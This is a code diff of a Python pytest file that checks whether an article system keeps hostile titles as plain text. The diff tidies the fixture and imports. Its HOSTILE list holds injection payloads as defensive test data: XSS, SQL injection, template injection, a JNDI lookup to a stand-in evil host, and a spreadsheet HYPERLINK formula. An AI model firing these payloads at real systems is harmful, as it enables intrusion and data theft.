@@ -6,7 +6,6 @@ import html as markup
 import json
 import re
 import subprocess
-from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -20,7 +19,7 @@ NOW = datetime(2026, 11, 21, 8, 0, tzinfo=UTC)
 ESC, CSI = "\x1b", "\x9b"
 # Each follows the words "Peacekeepers patrol" in a title; some are in the first paragraph too.
 HOSTILE = [
-    "<script>alert(7)</script>", "<img src=x onerror=alert(7)>", "\"><svg onload=alert(7)>", "</title><script>x</script>",
+    "<script>alert(7)</script>", "<img src=x onerror=alert(7)>", "\"><svg onload=alert(7)>", "</title><script>x</script>",  # noqa: E501
     "javascript:alert(7)", "'; DROP TABLE articles; --", "\" OR 1=1 --", "NEAR(a b) AND * ^x", "col:umn \"unclosed",
     "[click](javascript:alert(7))", "![x](http://evil.example/x.png)", "# heading\n- list", "`code` | table | row",
     "{{ 7*7 }}", "{% for x in y %}", "${jndi:ldap://evil.example}", "%s %n %(name)s {0}", "=HYPERLINK(\"http://evil\")",
@@ -64,8 +63,8 @@ class World:
 
 
 @pytest.fixture(scope="module")
-def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
-    yield World(tmp_path_factory.mktemp("hostile-text"))
+def world(tmp_path_factory: pytest.TempPathFactory) -> World:
+    return World(tmp_path_factory.mktemp("hostile-text"))
 
 
 def test_every_hostile_title_is_kept_as_text_without_control_characters(world: World) -> None:
